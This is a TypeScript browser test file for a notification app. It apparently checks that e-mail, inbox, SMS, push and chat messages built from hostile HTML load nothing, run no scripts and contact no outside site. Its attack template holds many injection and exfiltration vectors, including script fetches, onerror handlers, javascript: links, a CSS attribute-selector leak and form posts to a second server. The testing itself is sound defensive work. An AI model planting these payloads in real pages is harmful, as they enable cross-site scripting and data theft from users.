// Messages whose content attacks the page or reports to another machine. Nothing of it runs or is loaded.
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { openBrowser, servePage } from './browser.ts';
import { openSite } from './other-site.ts';

const attack = (address: string) => `
  <html><head>
  <script>fetch('${address}/script')</script>
  <meta http-equiv="refresh" content="0; url=${address}/refresh">
  <link rel="stylesheet" href="${address}/sheet"><link rel="prefetch" href="${address}/prefetch">
  <link rel="preconnect" href="${address}/preconnect"><link rel="icon" href="${address}/icon">
  <base href="${address}/base/">
  <style>
    @import url(${address}/import);
    @font-face { font-family: x; src: url(${address}/font) }
    body { background: url(${address}/background); font-family: x }
    input[value^="a"] { background-image: url(${address}/exfiltrated) }
    p::after { content: url(${address}/content) }
  </style></head>
  <body onload="fetch('${address}/onload')">
  <p style="background:url(${address}/style)">Text</p>
  <img src="${address}/image" onerror="fetch('${address}/onerror')"><img src=x onerror="top.location='${address}/top'">
  <picture><source srcset="${address}/source"><img src="${address}/picture"></picture>
  <video src="${address}/video" poster="${address}/poster" autoplay></video><audio src="${address}/audio" autoplay></audio>
  <svg onload="fetch('${address}/svg')"><image href="${address}/svg-image"/><script>fetch('${address}/svg-script')</script></svg>
  <iframe src="${address}/frame"></iframe><iframe srcdoc="<script>fetch('${address}/srcdoc')</script>"></iframe>
  <object data="${address}/object"></object><embed src="${address}/embed">
  <form action="${address}/form" method="post"><input name="q" value="abc"><button id="send">Send</button></form>
  <a id="script" href="javascript:fetch('${address}/javascript')">Script</a>
  <a id="top" href="${address}/link" target="_top" ping="${address}/ping">Link</a>
  </body></html>`;

async function openAttack() {
  const server = await servePage();
  const site = await openSite();
  const { otherPlace: address } = site;
  const html = attack(address);
  await server.createWorkflow('attack', [
    {
      ...{ name: 'Mail', type: 'email' },
      controlValues: {
        ...{ subject: html, body: html, editorType: 'html', disableOutputSanitization: true },
      },
    },
    {
      ...{ name: 'Inbox', type: 'in_app' },
      controlValues: {
        ...{ subject: html, body: html, avatar: `${address}/avatar` },
        redirect: { url: `javascript:fetch('${address}/redirect')` },
        disableOutputSanitization: true,
      },
    },
    ...['sms', 'chat'].map((type) => ({ name: type, type, controlValues: { body: html } })),
    { name: 'Push', type: 'push', controlValues: { subject: html, body: html } },
  ]);
  await server.trigger('attack', 'u1', { html }, 'attack');
  const context = await openBrowser();
  const page = await server.signIn(context);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return { ...server, site, context, page, dialogs };
}

/** Waits until everything that the page loads is loaded. */
const settle = (page: Page) => page.waitForLoadState('networkidle').catch(() => undefined);

it('an e-mail loads nothing, runs nothing and sends nothing', async () => {
  const { baseUrl, newest, page, site, dialogs } = await openAttack();
  await page.goto(`${baseUrl}${await newest('email')}`);
  const frame = page.frameLocator('iframe');
  await frame.getByText('Text').waitFor();
  await frame.locator('#send').click();
  await frame.locator('#script').click();
  await settle(page);
  await fetch(`${site.samePlace}/last`);
  expect(site.requests).toEqual(['/last']);
  expect(dialogs).toEqual([]);
  expect(page.url()).toBe(`${baseUrl}${await newest('email')}`);
});

it('an e-mail opened outside its frame is as harmless', async () => {
  const { baseUrl, newest, page, site } = await openAttack();
  const url = `${baseUrl}${await newest('email')}/email`;
  await page.goto(url);
  await page.locator('#send').click();
  await settle(page);
  expect(await page.evaluate(() => Reflect.get(globalThis, 'origin'))).toBe(baseUrl);
  expect(page.url()).toBe(url);
  expect(site.requests).toEqual([]);
});

it('a link opens a new tab without access to the page, and the page stays', async () => {
  const { baseUrl, newest, page, context, site } = await openAttack();
  const path = await newest('email');
  await page.goto(`${baseUrl}${path}`);
  const opened = context.waitForEvent('page');
  await page.frameLocator('iframe').locator('#top').click();
  const other = await opened;
  await other.waitForLoadState();
  expect(site.requests).toContain('/link');
  expect(site.requests).not.toContain('/ping');
  expect(
    await other.evaluate(() => [
      Reflect.get(globalThis, 'opener'),
      Reflect.get(globalThis, 'document').referrer,
    ]),
  ).toEqual([null, '']);
  expect(page.url()).toBe(`${baseUrl}${path}`);
});

it('messages of other channels, lists, inboxes and timelines show attacks as text', async () => {
  const { baseUrl, newest, page, site, dialogs } = await openAttack();
  const paths = ['/', '/page/inbox/u1', '/page/activity', '/page/activity/attack'];
  for (const channel of ['in_app', 'sms', 'push', 'chat']) paths.push(await newest(channel));
  for (const path of paths) {
    await page.goto(`${baseUrl}${path}`);
    expect(
      await page
        .locator(
          'main form[action^="http"], main script, main img[src^="http"], a[href^="javascript"]',
        )
        .count(),
    ).toBe(0);
    await settle(page);
  }
  expect(await page.locator('.stage').textContent()).toContain('<script>fetch(');
  expect(site.requests).toEqual([]);
  expect(dialogs).toEqual([]);
});
